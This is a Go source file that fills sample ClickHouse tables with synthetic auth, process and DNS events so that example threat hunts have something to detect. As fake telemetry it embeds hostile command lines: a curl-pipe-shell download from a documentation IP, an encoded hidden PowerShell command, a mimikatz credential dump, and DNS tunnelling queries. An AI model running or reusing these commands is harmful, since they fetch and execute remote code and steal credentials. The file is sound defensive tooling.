package main

import (
	"context"
	"fmt"
	"log/slog"
	"time"

	"github.com/ClickHouse/clickhouse-go/v2/lib/driver"
)

// The sample data `hunt-runner dev` generates: database sample with auth, process and DNS
// events, mostly benign with a few attack patterns mixed in, so the example hunts find
// something every few minutes. This SQL is on the user's data (database sample, what the
// hunts read), not on hunt-runner's own tables, so it stays here rather than in package store.
var sampleDDL = []string{
	"CREATE DATABASE IF NOT EXISTS sample",
	`CREATE TABLE IF NOT EXISTS sample.auth_events (
    ts      DateTime64(3, 'UTC'),
    user    String,
    src_ip  String,
    outcome LowCardinality(String),
    country LowCardinality(String)
) ENGINE = MergeTree ORDER BY ts`,
	`CREATE TABLE IF NOT EXISTS sample.process_events (
    ts      DateTime64(3, 'UTC'),
    host    String,
    process String,
    parent  String,
    cmdline String
) ENGINE = MergeTree ORDER BY ts`,
	`CREATE TABLE IF NOT EXISTS sample.dns_events (
    ts    DateTime64(3, 'UTC'),
    host  String,
    query String,
    qtype LowCardinality(String),
    bytes UInt32
) ENGINE = MergeTree ORDER BY ts`,
}

// sampleInserts fill [from, to) (epoch milliseconds) with events, generated inside ClickHouse
// so that one round trip per table covers any span. The schema is the one examples/hunts
// assumes (examples/hunts/README.md). Rates: ~4 auth, ~2 process and ~6 DNS events per second.
// Attacks are tied to the event time (not the batch), so they recur at a steady pace whatever
// the insert cadence: a brute force every 80 s, a password spray every 2 min, a tunnelling
// host every 2 min, and rarer impossible travel, encoded PowerShell and curl-pipe-shell.
func sampleInserts(from, to int64) []string {
	span := to - from
	if span <= 0 {
		return nil
	}
	n := func(perSecond int64) int64 { return max(1, span*perSecond/1000) }
	rows := func(count int64) string {
		return fmt.Sprintf("(SELECT fromUnixTimestamp64Milli(toInt64(%d + intDiv(number * %d, %d)), 'UTC') AS ts, "+
			"toUnixTimestamp(ts) AS t, number FROM numbers(%d))", from, span, count, count)
	}
	return []string{
		`INSERT INTO sample.auth_events
SELECT ts,
       multiIf(spray, concat('user', toString(rand(1) % 40)),
               ['alice','bob','carol','dave','erin','frank','svc-backup','admin'][1 + rand(1) % 8]),
       multiIf(brute, concat('203.0.113.', toString(intDiv(t, 80) % 50)),
               spray, concat('198.51.100.', toString(intDiv(t, 120) % 50)),
               concat('10.0.', toString(rand(2) % 4), '.', toString(rand(3) % 250))),
       if(brute OR spray OR rand(4) % 25 = 0, 'failure', 'success'),
       if(travel, 'BR', ['US','GB','DE'][1 + cityHash64(user) % 3])
FROM (SELECT *, intDiv(t, 10) % 8 = 3 AS brute, intDiv(t, 10) % 12 = 6 AS spray,
             rand(9) % 900 = 0 AS travel FROM ` + rows(n(4)) + `)`,
		`INSERT INTO sample.process_events
SELECT ts,
       if(rare, 'ws-3', concat('ws-', toString(rand(1) % 12))),
       multiIf(ps, 'powershell.exe', curl, 'bash', rare, 'mimikatz.exe',
               ['chrome.exe','code','bash','python3','sshd','explorer.exe'][1 + rand(4) % 6]),
       multiIf(ps, 'winword.exe', ['explorer.exe','systemd','bash'][1 + rand(5) % 3]),
       multiIf(ps, 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
               curl, 'bash -c "curl -s http://198.51.100.7/x.sh | sh"',
               rare, 'mimikatz.exe privilege::debug sekurlsa::logonpasswords',
               'normal --flag')
FROM (SELECT *, rand(7) % 120 = 0 AS ps, rand(7) % 120 = 1 AS curl, rand(8) % 600 = 0 AS rare FROM ` + rows(n(2)) + `)`,
		`INSERT INTO sample.dns_events
SELECT ts,
       if(tunnel, 'ws-7', concat('ws-', toString(rand(1) % 12))),
       if(tunnel, concat(lower(hex(randomString(20))), '.t.exfil-example.net'),
          ['example.com','api.github.com','login.microsoftonline.com','updates.vendor.example','intranet.local'][1 + rand(3) % 5]),
       if(tunnel, 'TXT', ['A','AAAA','CNAME'][1 + rand(4) % 3]),
       toUInt32(if(tunnel, 800 + rand(5) % 400, 60 + rand(5) % 400))
FROM (SELECT *, intDiv(t, 20) % 6 = 2 AND rand(6) % 3 = 0 AS tunnel FROM ` + rows(n(6)) + `)`,
	}
}

// sampleGenerator keeps the sample tables fresh: it backfills the last Backfill on start and
// then appends events up to now every Every. It is a Start(ctx) component.
type sampleGenerator struct {
	conn     driver.Conn
	log      *slog.Logger
	every    time.Duration
	backfill time.Duration
	last     int64 // epoch ms covered so far
}

func (g *sampleGenerator) setup(ctx context.Context) error {
	for _, q := range sampleDDL {
		if err := g.conn.Exec(ctx, q); err != nil {
			return fmt.Errorf("sample schema: %w", err)
		}
	}
	var maxTS int64
	if err := g.conn.QueryRow(ctx, "SELECT toInt64(toUnixTimestamp64Milli(max(ts))) FROM sample.auth_events").Scan(&maxTS); err != nil {
		return fmt.Errorf("sample data: %w", err)
	}
	now := time.Now().UnixMilli()
	g.last = now - g.backfill.Milliseconds()
	if maxTS > g.last {
		g.last = maxTS + 1 // a kept --data directory: continue where it stopped
	}
	return g.fill(ctx, now)
}

func (g *sampleGenerator) fill(ctx context.Context, to int64) error {
	for _, q := range sampleInserts(g.last, to) {
		if err := g.conn.Exec(ctx, q); err != nil {
			return fmt.Errorf("sample data: %w", err)
		}
	}
	g.last = to
	return nil
}

func (g *sampleGenerator) Start(ctx context.Context) error {
	t := time.NewTicker(g.every)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-t.C:
			if err := g.fill(ctx, time.Now().UnixMilli()); err != nil && ctx.Err() == nil {
				g.log.Warn("generating sample events failed", "error", err)
			}
		}
	}
}
